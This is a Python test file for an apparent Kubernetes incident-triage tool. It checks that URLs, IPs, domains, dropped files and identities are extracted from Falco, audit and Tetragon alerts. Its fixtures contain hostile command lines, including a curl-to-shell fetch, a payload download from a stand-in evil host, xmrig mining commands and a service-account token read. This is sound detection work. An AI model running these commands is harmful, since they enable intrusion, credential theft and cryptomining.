"""What a command, an audit record or a runtime alert yields as indicators."""

from __future__ import annotations

import pytest

from ktriage.core import indicators
from ktriage.core.indicators import DOMAIN, FILE, HASH, IDENTITY, IP, URL, USER_AGENT, extract
from ktriage.core.model import Event, Severity


def _falco(cmdline: str, **fields: object) -> Event:
    return Event(
        time=100.0,
        source="falco",
        ref="f1",
        kind="shell",
        severity=Severity.HIGH,
        summary="x",
        signal=True,
        raw_inline={"output_fields": {"proc.cmdline": cmdline, **fields}},
    )


def _values(events: list[Event]) -> set[tuple[str, str]]:
    return {(i.kind, i.value) for i in extract(events).items}


@pytest.mark.parametrize(
    ("cmdline", "expected"),
    [
        (
            "sh -c 'curl -fsSL http://203.0.113.7/x.sh | sh'",
            {(URL, "http://203.0.113.7/x.sh"), (IP, "203.0.113.7")},
        ),
        (
            "wget evil.example.com/payload -O /tmp/p",
            {(FILE, "/tmp/p"), (DOMAIN, "evil.example.com")},
        ),
        ("curl update.evil.example -o /var/tmp/.x", {(DOMAIN, "update.evil.example")}),
        ("xmrig -o pool.supportxmr.com:3333 -u w", {(DOMAIN, "pool.supportxmr.com")}),
        ("xmrig -o stratum+tcp://p.example.net:5555", {(DOMAIN, "p.example.net")}),
        ("sh -c 'echo x >/dev/shm/.k; cat a 2>/dev/null'", {(FILE, "/dev/shm/.k")}),
        (
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            {(FILE, "/var/run/secrets/kubernetes.io/serviceaccount/token")},
        ),
        ("sha256sum " + "a" * 64, {(HASH, "a" * 64)}),
    ],
)
def test_commands_yield_urls_hosts_and_dropped_files(
    cmdline: str, expected: set[tuple[str, str]]
) -> None:
    assert expected <= _values([_falco(cmdline)])


def test_ordinary_programs_files_and_names_are_no_indicators() -> None:
    found = _values([_falco("python3 app.py --config /etc/app/config.yaml > /dev/null")])
    assert not any(kind in (FILE, DOMAIN) for kind, _v in found), found


def test_audit_records_yield_address_agent_identities_and_the_exec_command() -> None:
    ev = Event(
        time=50.0,
        source="audit",
        ref="a1",
        kind="exec",
        severity=Severity.HIGH,
        summary="exec",
        signal=True,
        raw_inline={
            "user": {"username": "ci-deploy"},
            "impersonatedUser": {"username": "system:admin"},
            "sourceIPs": ["203.0.113.50"],
            "userAgent": "kubectl/v1.30",
            "requestURI": "/api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&command="
            "curl%20http%3A%2F%2F198.51.100.7%2Fx%20-o%20%2Ftmp%2Fx",
        },
    )
    found = {(i.kind, i.value): i for i in extract([ev]).items}
    assert (IDENTITY, "system:admin") in found and (IDENTITY, "ci-deploy") in found
    assert (USER_AGENT, "kubectl/v1.30") in found
    assert found[(IP, "203.0.113.50")].places[0].field == "sourceIPs"
    assert (URL, "http://198.51.100.7/x") in found and (FILE, "/tmp/x") in found
    assert found[(FILE, "/tmp/x")].places[0].field == "requestURI command"


def test_hostile_odd_records_add_what_they_can_and_count_the_rest() -> None:
    odd = Event(
        time=1.0,
        source="tetragon",
        ref="t1",
        kind="x",
        severity=Severity.LOW,
        summary="x",
        raw_inline={"process_exec": {"process": {"binary": 42, "arguments": ["not", "text"]},
                                     "args": "nope"}},
    )  # fmt: skip
    deep = _falco("curl http://" + "a." * 5000 + "example/x")
    result = extract([odd, deep])
    assert all(len(i.value) <= indicators.MAX_VALUE + 1 for i in result.items)


def test_ktriage_own_requests_are_no_indicators() -> None:
    """A request ktriage made (this session or a recorded earlier one) names the
    responder's address, agent and identity: none of them is the attacker's."""
    from ktriage.core.model import EntityKind, EntityRef
    from ktriage.core.parse.audit import OWN_REQUEST_KIND

    def request(kind: str) -> Event:
        return Event(
            time=100.0,
            source="audit",
            ref=f"a-{kind}",
            kind=kind,
            severity=Severity.INFO,
            summary="kubernetes-admin create selfsubjectrulesreviews",
            entities=(EntityRef(EntityKind.IP, "", "192.0.2.44"),),
            raw_inline={
                "sourceIPs": ["192.0.2.44"],
                "userAgent": "ktriage/1.0 (session 00ff)",
                "user": {"username": "kubernetes-admin"},
            },
        )

    assert (IP, "192.0.2.44") not in _values([request(OWN_REQUEST_KIND)])
    # The same record by anyone else is an indicator: the skip is the kind, not the data.
    assert (IP, "192.0.2.44") in _values([request("get")])


def _tetragon_kprobe(args: object) -> Event:
    return Event(
        time=5.0,
        source="tetragon",
        ref="t-kprobe",
        kind="connect",
        severity=Severity.MEDIUM,
        summary="x",
        raw_inline={"process_kprobe": {"process": {"binary": "/usr/bin/nc"}, "args": args}},
    )


def test_tetragon_kprobe_arguments_yield_the_address_and_paths() -> None:
    args = [
        {"sock_arg": {"daddr": "198.51.100.9", "dport": 4444}},
        {"file_arg": {"path": "/tmp/.drop"}},
        {"linux_binprm_arg": {"path": "/dev/shm/run"}},
    ]
    found = {(i.kind, i.value): i for i in extract([_tetragon_kprobe(args)]).items}
    assert found[(IP, "198.51.100.9")].places[0].field == "args.sock_arg.daddr"
    assert found[(FILE, "/tmp/.drop")].places[0].field == "args.file_arg.path"
    assert found[(FILE, "/dev/shm/run")].places[0].field == "args.linux_binprm_arg.path"


def test_hostile_tetragon_arguments_of_the_wrong_shape_add_nothing() -> None:
    args = [
        "text",
        {"sock_arg": "198.51.100.9"},
        {"sock_arg": {"daddr": ["198.51.100.10"]}},
        {"file_arg": {"path": 7}},
        {"path_arg": ["/tmp/.x"]},
    ]
    found = _values([_tetragon_kprobe(args)])
    assert not any(kind in (IP, FILE) and value != "/usr/bin/nc" for kind, value in found), found
